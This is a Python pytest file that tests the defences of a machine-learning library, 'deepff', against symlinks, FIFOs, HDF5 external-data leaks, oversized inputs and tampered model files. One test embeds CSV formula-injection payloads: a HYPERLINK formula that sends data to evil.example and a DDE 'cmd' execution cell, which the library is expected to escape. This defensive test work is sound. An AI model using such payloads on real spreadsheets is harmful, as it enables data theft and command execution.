"""Nothing lost, nothing leaked (issue 13): run directories, output files and readers under
attack, as an attacker or a careless user tries them.

Each case states the input, the message, and that nothing changed: the user's files are
compared byte for byte before and after, and nothing is left behind.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import struct
import subprocess
import sys
import threading
import time
import warnings
import zlib
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pytest

import deepff as dff
from deepff import serialization
from deepff.cli import main
from deepff.estimators import DNNClassifier, DNNRegressor
from deepff.io import csvfile, datasets
from deepff.runs.directory import LOCK_FILE, MARKER_FILE

ENV = {**os.environ, "OMP_NUM_THREADS": "1", "OPENBLAS_NUM_THREADS": "1", "MPLBACKEND": "Agg"}
FAST = ["--epochs", "2", "--layers", "4", "-q"]


def snapshot(folder: Path) -> dict:
    """Every file (and link) under ``folder``: its bytes, or where a link points."""
    files = {}
    for path in sorted(Path(folder).rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            files[key] = ("link", os.readlink(path))
        elif path.is_file():
            files[key] = path.read_bytes()
        elif not path.is_dir():
            files[key] = ("special", path.stat().st_mode)
    return files


def run(capsys, *args) -> tuple:
    """``deepff ARGS`` in this process: (exit status, stdout, stderr)."""
    status = main([str(a) for a in args])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def refused(capsys, pattern, *args) -> str:
    """``deepff ARGS`` exits 2 with one line on stderr matching ``pattern``."""
    status, _, err = run(capsys, *args)
    lines = [line for line in err.splitlines() if line]
    assert status == 2, err
    assert len(lines) == 1, err
    assert "Traceback" not in err and "internal error" not in err, err
    import re

    assert re.search(pattern, lines[0]), lines[0]
    return lines[0]


@contextmanager
def within(seconds: int):
    """Fail instead of hanging (a FIFO that is opened blocks forever)."""

    def expired(signum, frame):
        raise AssertionError(f"blocked for more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def table(path: Path, labels=("a", "b"), rows=40) -> Path:
    rng = np.random.default_rng(0)
    with open(path, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["x1", "x2", "label"])
        for i in range(rows):
            writer.writerow([f"{rng.normal():.4f}", f"{rng.normal():.4f}", labels[i % 2]])
    return path


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    """A small trained run (iris) to predict with."""
    out = tmp_path_factory.mktemp("model") / "run"
    assert main(["train", "iris", "--out", str(out), *FAST]) == 0
    return out / "model.safetensors"


# --- a run directory is owned ------------------------------------------------------------------


def test_train_refuses_a_folder_of_the_users_own_files(here, capsys):
    folder = here / "mine"
    folder.mkdir()
    (folder / "config.toml").write_text("my = 'own'\n")
    (folder / "history.csv").write_text("my,own\n1,2\n")
    before = snapshot(folder)
    refused(
        capsys,
        r"mine: not a deepff run directory \(it holds config\.toml, history\.csv",
        "train",
        "iris",
        "--out",
        "mine",
        *FAST,
    )
    assert snapshot(folder) == before


def test_overwrite_writes_into_it_and_leaves_other_files(here, capsys):
    folder = here / "mine"
    folder.mkdir()
    (folder / "notes.txt").write_text("keep me")
    assert run(capsys, "train", "iris", "--out", "mine", "--overwrite", *FAST)[0] == 0
    assert (folder / "notes.txt").read_text() == "keep me"
    assert (folder / MARKER_FILE).exists() and (folder / "model.safetensors").exists()


def test_the_data_being_read_is_never_a_destination(here, capsys):
    data = table(here / "history.csv")
    before = snapshot(here)
    refused(capsys, r"not a deepff run directory", "train", "history.csv", "--out", ".", *FAST)
    refused(
        capsys,
        r"history\.csv: the data lies inside the run directory \.",
        "train",
        "history.csv",
        "--out",
        ".",
        "--overwrite",
        *FAST,
    )
    assert snapshot(here) == before
    # an image folder is never a destination either
    from PIL import Image

    for label in ("a", "b"):
        (here / "images" / label).mkdir(parents=True)
        Image.new("RGB", (4, 4)).save(here / "images" / label / "1.png")
    refused(
        capsys,
        r"the run directory lies inside the data folder images",
        "train",
        "images",
        "--out",
        "images/run",
        *FAST,
    )
    assert data.exists()


def test_the_default_out_never_replaces_an_earlier_run(here, capsys):
    for experiment in ("exp1", "exp2"):
        (here / experiment).mkdir()
        table(here / experiment / "data.csv", labels=(f"{experiment}-a", f"{experiment}-b"))
    assert run(capsys, "train", "exp1/data.csv", *FAST)[0] == 0
    first = snapshot(here / "runs" / "data")
    status, out, _ = run(capsys, "train", "exp2/data.csv", *FAST)
    assert status == 0 and "Wrote runs/data-2/" in out
    assert snapshot(here / "runs" / "data") == first
    assert "exp2-a" in (here / "runs" / "data-2" / "confusion_matrix.csv").read_text()


def test_two_processes_with_the_default_out_never_share_it(here):
    table(here / "data.csv")
    command = [sys.executable, "-m", "deepff", "train", "data.csv", *FAST]
    processes = [subprocess.Popen(command, cwd=here, env=ENV, stderr=subprocess.PIPE, text=True)
                 for _ in range(2)]  # fmt: skip
    for process in processes:
        _, err = process.communicate(timeout=300)
        assert process.returncode == 0, err
    assert sorted(p.name for p in (here / "runs").iterdir()) == ["data", "data-2"]
    for name in ("data", "data-2"):
        assert (here / "runs" / name / "model.safetensors").exists()


def test_a_second_process_is_kept_out_of_a_run_directory(here, capsys):
    out = here / "run"
    out.mkdir()
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time\nfrom deepff.runs.directory import RunLock\n"
            "lock = RunLock(sys.argv[1]); print('held', flush=True); time.sleep(60)",
            str(out),
        ],
        stdout=subprocess.PIPE,
        text=True,
        env=ENV,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        before = snapshot(out)
        refused(
            capsys,
            rf"run: another deepff process \(PID {holder.pid}\) is writing this run directory",
            "train",
            "iris",
            "--out",
            "run",
            *FAST,
        )
        assert snapshot(out) == before
    finally:
        holder.kill()
        holder.wait()
    assert run(capsys, "train", "iris", "--out", "run", *FAST)[0] == 0  # the lock died with it
    assert (out / LOCK_FILE).read_text().strip() == str(os.getpid())


def test_resume_refuses_data_that_changed(here, capsys):
    data = table(here / "data.csv")
    assert run(capsys, "train", "data.csv", "--out", "run", *FAST)[0] == 0
    data.write_text(data.read_text().replace("\na", "\nb", 3))  # three labels flipped
    before = snapshot(here / "run")
    refused(
        capsys,
        r"data\.csv: the data changed since the run in run began .*only on the same data",
        "train",
        "--resume",
        "run",
        "--epochs",
        "4",
    )
    assert snapshot(here / "run") == before


def test_a_link_planted_in_a_run_directory_is_never_written_through(here, capsys):
    assert run(capsys, "train", "iris", "--out", "run", *FAST)[0] == 0
    target = here / "target.txt"
    target.write_bytes((here / "run" / "history.csv").read_bytes())
    (here / "run" / "history.csv").unlink()
    (here / "run" / "history.csv").symlink_to(target)
    before = snapshot(here)
    refused(
        capsys,
        r"run/history\.csv: is a symbolic link; deepff replaces only regular",
        "train",
        "--resume",
        "run",
        "--epochs",
        "4",
    )
    assert snapshot(here) == before
    from deepff.runs.run import HistoryLog, RunError

    with pytest.raises(RunError, match=r"history\.csv: is a symbolic link; a run writes no link"):
        HistoryLog(here / "run" / "history.csv").append(9, {"loss": 0.5})
    assert snapshot(here) == before


def test_a_run_directory_of_a_newer_deepff_is_refused(here, capsys):
    (here / "run").mkdir()
    (here / "run" / MARKER_FILE).write_text('format = "deepff-run"\nversion = 99\n')
    before = snapshot(here / "run")
    refused(
        capsys,
        r"a run directory of a newer deepff \(layout version 99",
        "train",
        "iris",
        "--out",
        "run",
        *FAST,
    )
    assert snapshot(here / "run") == before


# --- output files ------------------------------------------------------------------------------


def test_predict_deletes_no_user_file_and_writes_to_standard_output(here, capsys, model):
    (here / "P.part").write_text("the user's own")
    status, out, _ = run(capsys, "predict", model, "iris", "--out", "P")
    assert status == 0 and (here / "P.part").read_text() == "the user's own"
    assert (here / "P").read_text().startswith("prediction\n")
    status, out, err = run(capsys, "predict", model, "iris", "--out", "-")
    assert status == 0 and out.splitlines()[0] == "prediction" and len(out.splitlines()) == 151
    assert "standard output" in err and not (here / "-").exists()
    assert sorted(p.name for p in here.iterdir()) == ["P", "P.part"]  # no temporary left


@pytest.mark.parametrize("kind", ["symlink", "fifo", "directory", "device link"])
def test_predict_never_replaces_a_link_fifo_or_directory(here, capsys, model, kind):
    target = here / "target.csv"
    target.write_text("the user's own")
    out = here / "out.csv"
    if kind == "symlink":
        out.symlink_to(target)
        pattern = r"out\.csv: is a symbolic link; deepff replaces only regular files"
    elif kind == "fifo":
        os.mkfifo(out)
        pattern = r"out\.csv: is a FIFO \(named pipe\); .* \(use --out - for standard output\)"
    elif kind == "directory":
        out.mkdir()
        pattern = r"out\.csv: it is a directory"
    else:
        out.symlink_to("/dev/stdout")
        pattern = r"out\.csv: is a symbolic link; deepff replaces only regular files"
    before = snapshot(here)
    with within(20):
        refused(capsys, pattern, "predict", model, "iris", "--out", out)
    assert snapshot(here) == before


def test_export_and_plot_never_replace_a_link(here, capsys, model):
    (here / "target").write_text("the user's own")
    (here / "model.onnx").symlink_to(here / "target")
    (here / "fig.png").symlink_to(here / "target")
    before = snapshot(here)
    refused(capsys, r"model\.onnx: is a symbolic link", "export", model, "--onnx", "model.onnx")
    refused(capsys, r"fig\.png: is a symbolic link", "plot", "activations", "--out", "fig.png")
    assert snapshot(here) == before


def test_an_output_never_replaces_what_the_command_reads(here, capsys, model):
    table(here / "data.csv", labels=("setosa", "virginica"))
    (here / "run").mkdir()
    (here / "run" / "model.safetensors").write_bytes(model.read_bytes())
    before = snapshot(here)
    refused(
        capsys,
        r"data\.csv: is data\.csv, which this command reads",
        "predict",
        "run",
        "data.csv",
        "--out",
        "data.csv",
    )
    refused(
        capsys,
        r"run/model\.safetensors: is run/model\.safetensors, which",
        "predict",
        "run",
        "iris",
        "--out",
        "run/model.safetensors",
    )
    refused(
        capsys,
        r"is run/model\.safetensors, which this command reads",
        "export",
        "run/model.safetensors",
        "--onnx",
        "run/model.safetensors",
    )
    assert snapshot(here) == before


def test_writers_racing_on_one_path_never_collide(tmp_path):
    path = tmp_path / "p.csv"
    errors = []

    def write(k):
        try:
            csvfile.write_csv(path, [["k"], *([[k]] * 2000)])
        except Exception as error:  # pragma: no cover - the failure being tested
            errors.append(error)

    threads = [threading.Thread(target=write, args=(k,)) for k in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    lines = path.read_text().splitlines()
    assert len(lines) == 2001 and len(set(lines[1:])) == 1  # one writer's whole file
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.csv"]


# --- readers open only regular files, inside the file, sizes bounded ------------------------


def test_a_fifo_or_device_given_as_data_model_or_config_is_refused_at_once(here, capsys, model):
    os.mkfifo(here / "pipe.csv")
    os.mkfifo(here / "pipe.safetensors")
    os.mkfifo(here / "pipe.toml")
    with within(20):
        refused(
            capsys,
            r"pipe\.csv: is a FIFO \(named pipe\), not a regular file",
            "train",
            "pipe.csv",
            "--out",
            "r",
            *FAST,
        )
        refused(
            capsys, r"pipe\.safetensors: is a FIFO .*not a regular file", "info", "pipe.safetensors"
        )
        refused(
            capsys,
            r"pipe\.safetensors: is a FIFO",
            "predict",
            "pipe.safetensors",
            "iris",
            "--out",
            "p.csv",
        )
        refused(capsys, r"pipe\.toml: is a FIFO", "train", "iris", "--config", "pipe.toml", *FAST)
        refused(capsys, r"pipe\.csv: is a FIFO", "predict", model, "pipe.csv", "--out", "p.csv")
        refused(capsys, r"/dev/zero: is a character device", "train", "/dev/zero", *FAST)
        refused(capsys, r"pipe\.toml: is a FIFO", "tune", "iris", "--space", "pipe.toml")
        (here / "run").mkdir()
        (here / "run" / MARKER_FILE).write_text('format = "deepff-run"\nversion = 1\n')
        os.mkfifo(here / "run" / "history.csv")  # planted in a run directory
        refused(capsys, r"history\.csv: is a FIFO", "plot", "run")
    names = sorted(p.name for p in here.iterdir())
    assert names == ["pipe.csv", "pipe.safetensors", "pipe.toml", "run"]


def _hdf5_with(kind: str, folder: Path) -> Path:
    import h5py

    secret = folder / "secret.bin"
    secret.write_bytes(np.arange(150 * 4, dtype="<f4").tobytes())
    other = folder / "other.h5"
    with h5py.File(other, "w") as handle:
        handle["X"] = np.ones((150, 4), np.float32)
    path = folder / f"{kind}.h5"
    with h5py.File(path, "w") as handle:
        if kind == "external":
            handle.create_dataset(
                "X", shape=(150, 4), dtype="<f4", external=[(str(secret), 0, 2400)]
            )
        elif kind == "link":
            handle["X"] = h5py.ExternalLink(str(other), "X")
        else:
            layout = h5py.VirtualLayout(shape=(150, 4), dtype="f4")
            layout[:] = h5py.VirtualSource(str(other), "X", shape=(150, 4))
            handle.create_virtual_dataset("X", layout)
        handle["y"] = np.arange(150) % 3
    return path


@pytest.mark.parametrize(
    "kind, what",
    [
        ("external", r"stores its data in external files '.*secret\.bin'"),
        ("link", r"is an external link to another file"),
        ("virtual", r"is a virtual dataset \(its data live in other files\)"),
    ],
)
def test_hdf5_reads_only_inside_the_file(here, capsys, model, kind, what):
    path = _hdf5_with(kind, here)
    before = snapshot(here)
    pattern = rf"{kind}\.h5: dataset 'X' {what}; deepff reads only data inside the file"
    refused(capsys, pattern, "predict", model, path, "--out", "p.csv")
    refused(capsys, pattern, "train", path, "--out", "r", *FAST)
    assert snapshot(here) == before  # no p.csv holding the secret, no run


def _png_claiming(width: int, height: int) -> bytes:
    """A 1x1 PNG whose header claims width x height (its pixels are never decoded)."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (1, 1)).save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def test_images_are_bounded_by_pixels_before_decoding(here, capsys, monkeypatch):
    from PIL import Image

    for label in ("a", "b"):
        (here / "images" / label).mkdir(parents=True)
        Image.new("RGB", (8, 8)).save(here / "images" / label / "small.png")
    (here / "images" / "b" / "huge.png").write_bytes(_png_claiming(9000, 9000))
    started = time.monotonic()
    refused(
        capsys,
        r"huge\.png: an image of 9000x9000 \(81,000,000 pixels\) is larger than the 33,554,",
        "train",
        "images",
        "--out",
        "r",
        *FAST,
    )
    assert time.monotonic() - started < 5
    (here / "images" / "b" / "huge.png").unlink()
    monkeypatch.setattr(datasets, "MAX_TOTAL_PIXELS", 100)  # 2 images of 64 pixels
    refused(
        capsys,
        r"images: the images hold more than 100 pixels together",
        "train",
        "images",
        "--out",
        "r",
        *FAST,
    )
    assert not (here / "r").exists() or not any((here / "r").iterdir())


def test_csv_line_length_is_bounded(here, capsys, monkeypatch):
    monkeypatch.setattr(datasets, "MAX_CSV_LINE_BYTES", 1000)
    (here / "long.csv").write_text("a,label\n1,x\n" + "2" * 5000 + ",y\n1,x\n")
    refused(
        capsys,
        r"long\.csv: line 3 is longer than 1,000 bytes",
        "train",
        "long.csv",
        "--out",
        "r",
        *FAST,
    )


def _tampered(model: Path, folder: Path, edit) -> Path:
    """A copy of ``model`` whose JSON header entries ``edit(metadata)`` changed."""
    raw = model.read_bytes()
    (n,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8 : 8 + n])
    edit(header["__metadata__"])
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    path = folder / "tampered.safetensors"
    path.write_bytes(struct.pack("<Q", len(text)) + text + raw[8 + n :])
    return path


def test_model_file_string_dtypes_layer_counts_and_nesting_are_bounded(here, capsys, model):
    def wide_classes(meta):
        state = json.loads(meta["state"])
        state["classes_dtype"] = "<U400000000"
        meta["state"] = json.dumps(state)

    def many_layers(meta):
        config = json.loads(meta["config"])
        config["layers"] = [{}] * 800_000  # counted before any is read
        meta["config"] = json.dumps(config)

    def deep(meta):
        meta["metadata"] = "[" * 100_000 + "]" * 100_000

    cases = [
        (
            wide_classes,
            r"has a classes_dtype '<U400000000' of 400,000,000 characters for labels of at",
        ),
        (many_layers, r"has a config of 800,000 layers, more than the 10,000 allowed"),
        (deep, r"has a 'metadata' entry nested more than 100 levels deep"),
    ]
    for edit, pattern in cases:
        path = _tampered(model, here, edit)
        started = time.monotonic()
        refused(capsys, rf"tampered\.safetensors: {pattern}", "info", path)
        with pytest.raises(serialization.ModelFileError, match=pattern) as caught:
            dff.load(path)
        assert caught.value.path == str(path)
        assert time.monotonic() - started < 10


def test_toml_nested_deeply_is_one_line(here, capsys):
    (here / "deep.toml").write_text("layers = " + "[" * 100_000 + "]" * 100_000 + "\n")
    refused(
        capsys,
        r"deep\.toml: not valid TOML: nested more than 100 levels deep",
        "train",
        "iris",
        "--config",
        "deep.toml",
    )


def test_running_out_of_memory_is_one_line_with_the_size(here, capsys, monkeypatch):
    refused(
        capsys,
        r"option 'layers' \[1000000000\] makes a network of 8,000,000,003 parameters, .* GiB",
        "train",
        "iris",
        "--layers",
        "1000000000",
        "--out",
        "r",
    )
    from deepff.cli import train

    def allocate(*args, **kwargs):
        raise MemoryError("Unable to allocate 7.45 GiB for an array with shape (1000000000, 2)")

    monkeypatch.setattr(train, "train_run", allocate)
    refused(
        capsys,
        r"deepff: error: out of memory \(Unable to allocate 7\.45 GiB .*\); use smaller data",
        "train",
        "iris",
        "--out",
        "r",
    )


# --- model files ---------------------------------------------------------------------------------


def test_a_negative_running_variance_is_refused_by_load_and_by_set_state(here, capsys):
    net = dff.Network([dff.Dense(3, batch_norm=True), dff.Dense(1, activation="sigmoid")], seed=0)
    net.build(2)
    key = next(k for k in net.get_state() if k.endswith("running_var"))
    net.layers[0].buffers["running_var"][...] = -1.0
    path = here / "negative.safetensors"
    net.save(path)
    with pytest.raises(
        serialization.ModelFileError,
        match=rf"negative\.safetensors: is corrupt: tensor '{key}' holds a negative variance",
    ):
        dff.load(path)
    refused(
        capsys,
        r"negative\.safetensors: is corrupt: tensor .* holds a negative variance",
        "info",
        path,
    )
    good = dff.Network([dff.Dense(3, batch_norm=True), dff.Dense(1, activation="sigmoid")], seed=0)
    good.build(2)
    before = good.get_state()
    for value, pattern in ((-1.0, "negative variance"), (np.nan, "NaN or infinite")):
        state = good.get_state()
        state[key][...] = value
        with pytest.raises(
            ValueError, match=rf"state refused: tensor '{key}' holds (a )?{pattern}"
        ):
            good.set_state(state)
        for name, array in good.get_state().items():
            np.testing.assert_array_equal(array, before[name])


# --- CSV cells a spreadsheet would evaluate -------------------------------------------------


def test_formula_labels_are_escaped_in_every_csv_and_numbers_stay_numbers(here, capsys):
    evil = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0")
    table(here / "evil.csv", labels=evil)
    assert run(capsys, "train", "evil.csv", "--out", "run", *FAST)[0] == 0
    assert run(capsys, "predict", "run", "evil.csv", "--out", "p.csv", "--proba")[0] == 0
    for name in ("run/confusion_matrix.csv", "p.csv"):
        cells = [cell for row in csv.reader(open(here / name)) for cell in row]
        assert not any(cell.startswith(csvfile.FORMULA_STARTS) for cell in cells), name
        assert any(cell in ("'" + evil[0], "'" + evil[1]) for cell in cells), name
    matrix = [cell for row in csv.reader(open(here / "run/confusion_matrix.csv")) for cell in row]
    assert {"'" + evil[0], "'" + evil[1]} <= set(matrix)
    rows = list(csv.reader(open(here / "p.csv")))
    assert all(float(p) >= 0 for row in rows[1:] for p in row[1:])  # probabilities: numbers
    assert csvfile.safe_row([-1.5, "-2.5e3", "-x", "@a", "\tb", "\rc"]) == [
        -1.5,
        "-2.5e3",
        "'-x",
        "'@a",
        "'\tb",
        "'\rc",
    ]


# --- the API -------------------------------------------------------------------------------------


def _net():
    return dff.Network([dff.Dense(1, activation="sigmoid")], seed=0)


def test_labels_follow_scikit_learns_rules():
    X = np.random.default_rng(0).normal(size=(20, 3))
    for labels in ([1, "a"] * 10, np.array([1, "a"] * 10, dtype=object)):
        net = _net()
        with pytest.raises(ValueError, match=r"^Mix of label input types \(string and number\)"):
            net.fit(X, labels, verbose=0)
        assert not net.built and net.classes_ is None
    for labels, shown in (([1] * 20, "1"), (["a"] * 20, "'a'")):  # one class, any type
        net = _net()
        with pytest.raises(
            ValueError,
            match=rf"y has a single class {shown}; a classifier needs at least 2 classes",
        ):
            net.fit(X, labels, verbose=0)
        assert not net.built


def test_overflowing_sample_weights_a_lone_callback_and_an_infinite_validation_loss():
    X = np.random.default_rng(0).normal(size=(20, 3))
    y = [0, 1] * 10
    net = _net()
    with pytest.raises(ValueError, match=r"sample_weight sums to 2e\+39, too large for float32"):
        net.fit(X, y, sample_weight=np.full(20, 1e38), verbose=0)
    with pytest.raises(ValueError, match=r"sample_weight .*1e\+308"):
        net.fit(X, y, sample_weight=np.full(20, 1e308), verbose=0)
    for estimator in (DNNClassifier(max_iter=2), DNNRegressor(max_iter=2)):
        with pytest.raises(
            ValueError, match=r"sample_weight sums to inf, too large .*scale the weights"
        ):
            estimator.fit(X, y, sample_weight=np.full(20, 1e308))
        assert not hasattr(estimator, "n_iter_")
    with pytest.raises(
        TypeError,
        match=r"a list of Callback objects; got one EarlyStopping \(pass \[EarlyStopping",
    ):
        net.fit(X, y, callbacks=dff.EarlyStopping(), verbose=0)
    assert not net.built
    regressor = dff.Network([dff.Dense(1)], loss="mse", seed=0)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        regressor.fit(X, X[:, 0], epochs=1, verbose=0, validation_data=(X * 1e30, X[:, 0]))
    assert any("epoch 0: the validation loss is inf" in str(w.message) for w in caught)


def test_a_second_concurrent_fit_raises_instead_of_racing():
    X = np.random.default_rng(0).normal(size=(4000, 8))
    y = (X[:, 0] > 0).astype(int)
    net = _net()
    errors, barrier = [], threading.Barrier(4)

    def fit():
        barrier.wait()
        try:
            net.fit(X, y, epochs=30, batch_size=32, verbose=0)
        except RuntimeError as error:
            errors.append(str(error))

    threads = [threading.Thread(target=fit) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors and all("this network is training already" in e for e in errors)
    assert net.epoch % 30 == 0  # whole fits only: no interleaved epochs


def test_an_oversized_options_or_space_file_is_refused_unread(here, capsys):
    from deepff.io.toml import MAX_BYTES
    from deepff.tuning.space import load_space

    with open(here / "big.toml", "wb") as handle:
        handle.truncate(MAX_BYTES + 1)  # sparse: 16 MiB of zeros, which are not TOML
    refused(capsys, r"big\.toml: larger than 16 MiB$", "train", "iris", "--config", "big.toml")
    with pytest.raises(ValueError, match=r"^space file '.*big\.toml': larger than 16 MiB$"):
        load_space(here / "big.toml")
